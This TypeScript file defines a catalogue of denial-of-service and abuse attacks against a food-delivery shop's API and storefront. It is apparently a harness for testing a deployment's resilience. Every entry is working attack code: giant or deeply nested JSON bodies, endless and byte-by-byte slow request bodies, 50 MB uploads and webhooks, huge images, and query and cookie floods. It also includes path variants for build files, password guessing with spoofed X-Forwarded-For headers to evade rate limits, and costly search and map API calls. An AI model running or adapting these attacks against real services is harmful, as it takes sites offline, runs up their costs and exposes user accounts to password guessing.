import { flood, send } from './send';

export type Ground = {
  /** Of the shop that is attacked. */
  url: string;
  /** Of a customer. */
  token: string;
  /** Pictures of under 2 MB: 39 megapixels of 16 bits, and as many as are taken. */
  pictures: { huge: Buffer; large: Buffer };
  signal: AbortSignal;
};

export type Attack = {
  name: string;
  /** The storefront before another back end, instead of the shop. */
  front?: true;
  run: (ground: Ground) => Promise<void>;
};

const JSON_TYPE = { 'content-type': 'application/json' };
const FOOD = { zoneid: '[1]', moduleid: '4' };

/** New kinds of abuse are one row each. An attack ends by itself or by its signal. */
export const attacks: Attack[] = [
  {
    name: 'add-multiple: 120 KB of {}',
    run: posts('/customer/cart/add-multiple', {
      count: 20,
      body: `{"guest_id":1,"item_list":[${list('{}', 40_000)}]}`,
    }),
  },
  {
    name: 'add-multiple: 1 MB of {}',
    run: posts('/customer/cart/add-multiple', { count: 6, body: `{"item_list":[${list('{}', 340_000)}]}` }),
  },
  {
    name: 'add-multiple: as many wrong lines as are taken',
    run: posts('/customer/cart/add-multiple', {
      count: 20,
      atOnce: 2,
      body: `{"guest_id":1,"item_list":[${list(`{"add_on_ids":[${list('"x"', 30)}]}`, 100)}]}`,
    }),
  },
  {
    name: 'add: lists of 60 KB',
    run: posts('/customer/cart/add', { count: 20, body: `{"add_on_ids":[${list('""', 20_000)}]}` }),
  },
  {
    name: 'JSON: deep',
    run: posts('/customer/address/add', { body: `{"address":${'['.repeat(30_000)}${']'.repeat(30_000)}}` }),
  },
  {
    name: 'JSON: many keys',
    run: posts('/auth/login', { body: `{${Array.from({ length: 5000 }, (_, n) => `"k${n}":1`).join(',')}}` }),
  },
  {
    name: 'JSON: long texts',
    run: posts('/auth/sign-up', {
      body: JSON.stringify({ name: 'x'.repeat(20_000), email: `${'a@'.repeat(10_000)}`, phone: '+1'.repeat(10_000) }),
    }),
  },
  {
    name: 'JSON: text within text',
    run: posts('/customer/order/place', {
      body: JSON.stringify({ cart: `[${list('{}', 6600)}]`, receiver_details: '['.repeat(5000) }),
    }),
  },
  {
    name: 'form: many parts',
    run: ({ url, signal }) => {
      const body = Buffer.from(list(part('image', 'x'), 60_000, '') + '--b--');
      const headers = { 'content-type': 'multipart/form-data; boundary=b' };
      return flood({ count: 12, atOnce: 4, signal }, () =>
        send(`${url}/api/v1/auth/delivery-man/store`, { method: 'POST', headers, body, signal }),
      );
    },
  },
  {
    name: 'body: without an end',
    run: ({ url, signal }) =>
      flood({ count: 8, atOnce: 8, signal }, () =>
        send(`${url}/api/v1/auth/login`, { method: 'POST', headers: JSON_TYPE, body: parts(400), signal }),
      ),
  },
  {
    name: 'body: byte by byte, from 300 connections',
    run: ({ url, signal }) =>
      flood({ count: 300, atOnce: 300, signal }, () =>
        send(`${url}/api/v1/auth/login`, { method: 'POST', headers: JSON_TYPE, body: slowly(signal), signal }),
      ),
  },
  {
    name: 'query: many parameters',
    run: gets((n) => `/api/v1/items/popular?${list(`ids[]=${n}`, 1200, '&')}`, { headers: FOOD }),
  },
  {
    name: 'webhook: 50 MB',
    run: ({ url, signal }) =>
      flood({ count: 6, atOnce: 3, signal }, () =>
        send(`${url}/api/v1/payment/stripe/webhook`, { method: 'POST', body: parts(200), signal }),
      ),
  },
  {
    name: 'forwarding: bodies of 50 MB',
    front: true,
    run: ({ url, signal }) =>
      flood({ count: 8, atOnce: 4, signal }, () =>
        send(`${url}/api/v1/customer/message/send`, { method: 'POST', body: parts(200), signal }),
      ),
  },
  {
    name: 'forwarding: answers without an end',
    front: true,
    run: gets(() => '/api/v1/endless', { count: 12, atOnce: 4 }),
  },
  {
    name: 'forwarding: a back end that is silent',
    front: true,
    run: gets(() => '/api/v1/silent', { count: 40, atOnce: 40 }),
  },
  { name: 'pictures: 39 megapixels of 16 bits, three at a time', run: pictures('huge', { count: 6, atOnce: 3 }) },
  { name: 'pictures: many of 16 megapixels', run: pictures('large', { count: 12, atOnce: 6 }) },
  {
    name: 'files of the build by 6,000 ways to write their path',
    run: async (ground) => {
      const { body } = await send(`${ground.url}/categories`, { signal: ground.signal });
      const [, script = ''] = /\/_next\/static\/(chunks\/[^"]+\.js)/.exec(body) ?? [];
      await gets((n) => `/_next/static/${n}/../${script}`, { count: 6000, atOnce: 16 })(ground);
    },
  },
  {
    name: '/_next/image: every size',
    run: gets((n) => `/_next/image?url=%2Fapi%2Fv1%2Fmedia%2Fitem%2Flamp.webp%3F${n}&w=3840&q=${1 + (n % 100)}`, {
      count: 200,
    }),
  },
  {
    name: '/home: odd cookies',
    run: gets((n) => `/home?n=${n}`, { count: 150, atOnce: 2, headers: (n) => ({ cookie: `market=z${n}.m${n}` }) }),
  },
  {
    name: 'pages: many query strings',
    run: gets((n) => `/categories?n=${n}&${list('a=b', 300, '&')}`, { count: 600 }),
  },
  {
    name: 'search: odd words',
    run: gets((n) => `/api/v1/items/item-or-store-search?name=${encodeURIComponent(oddWords(n))}`, {
      count: 100,
      atOnce: 2,
      headers: FOOD,
    }),
  },
  {
    name: 'search: places',
    run: gets((n) => `/api/v1/config/place-api-autocomplete?search_text=${encodeURIComponent(oddWords(n))}`, {
      count: 150,
      atOnce: 2,
    }),
  },
  {
    name: 'ways: from one end of the map to the other',
    run: gets(
      (n) =>
        `/api/v1/config/direction-api?origin_lat=${19.9 + (n % 9) / 100}&origin_lng=60.4&destination_lat=20.1&destination_lng=60.6&mode=WALK`,
      { count: 60, atOnce: 2 },
    ),
  },
  {
    name: 'passwords: 400 guesses from 400 addresses',
    run: ({ url, signal }) =>
      flood({ count: 400, atOnce: 64, signal }, (n) =>
        send(`${url}/api/v1/auth/login`, {
          ...{ method: 'POST', signal, headers: { ...JSON_TYPE, ...from(n) } },
          body: JSON.stringify({
            login_type: 'manual',
            email_or_phone: `n${n}@medina.example`,
            password: `guess-${n}`,
          }),
        }),
      ),
  },
  {
    name: 'guests: 2,000 ids',
    run: posts('/auth/guest/request', { count: 2000, atOnce: 8, body: '{"fcm_token":"x"}' }),
  },
  {
    name: 'painting: every picture of the demo at once',
    run: gets((n) => `/api/v1/media/item/${n}-300.webp`, { count: 600, atOnce: 60 }),
  },
];

type Size = { count?: number; atOnce?: number };

function posts(path: string, { body, count = 40, atOnce = 4 }: Size & { body: string }): Attack['run'] {
  return ({ url, token, signal }) =>
    flood({ count, atOnce, signal }, () =>
      send(`${url}/api/v1${path}`, {
        ...{ method: 'POST', body, signal },
        headers: { ...JSON_TYPE, ...FOOD, authorization: `Bearer ${token}`, 'content-length': Buffer.byteLength(body) },
      }),
    );
}

type Headers = Record<string, string>;

function gets(
  path: (n: number) => string,
  { count = 100, atOnce = 4, headers = {} }: Size & { headers?: Headers | ((n: number) => Headers) } = {},
): Attack['run'] {
  const headersOf = typeof headers === 'function' ? headers : () => headers;
  return ({ url, signal }) =>
    flood({ count, atOnce, signal }, (n) => {
      const { hostname, port } = new URL(url);
      // As it is written: an address would lose its dots.
      return send(url, { hostname, port, path: path(n), headers: headersOf(n), signal });
    });
}

function pictures(size: keyof Ground['pictures'], { count, atOnce }: Required<Size>): Attack['run'] {
  return ({ url, token, pictures: made, signal }) =>
    flood({ count, atOnce, signal }, async () => {
      const form = new FormData();
      form.set('receiver_type', 'admin');
      form.set('receiver_id', '0');
      for (const n of [1, 2, 3]) {
        form.append('image[]', new Blob([new Uint8Array(made[size])], { type: 'image/png' }), `${n}.png`);
      }
      const { headers, body } = new Request(url, { method: 'POST', body: form });
      const parts = body as unknown as AsyncIterable<Buffer>;
      const type = headers.get('content-type') ?? '';
      const authorization = `Bearer ${token}`;
      const options = { method: 'POST', headers: { 'content-type': type, authorization }, body: parts, signal };
      await send(`${url}/api/v1/customer/message/send`, options);
    });
}

function list(one: string, count: number, between = ','): string {
  return Array.from({ length: count }, () => one).join(between);
}

function part(name: string, value: string): string {
  return `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
}

const PART = Buffer.alloc(256 * 1024, ' ');

function* parts(count: number): Generator<Buffer> {
  for (let n = 0; n < count; n++) yield PART;
}

async function* slowly(signal: AbortSignal): AsyncGenerator<Buffer> {
  while (!signal.aborted) {
    yield Buffer.from(' ');
    await new Promise((go) => setTimeout(go, 500));
  }
}

function from(n: number): Headers {
  return { 'X-Forwarded-For': `192.0.2.${n % 250}, 203.0.${n % 200}.${1 + (n % 250)}` };
}

const LETTERS = 'abcdefghijklmnopqrstuvwxyz';

/** Words that no search has seen, each of them near to many. */
function oddWords(n: number): string {
  return Array.from({ length: 8 }, (_, word) =>
    Array.from({ length: 13 }, (_, place) => LETTERS[(n * 7 + word * 11 + place * (1 + (n % 5))) % 26]).join(''),
  ).join(' ');
}
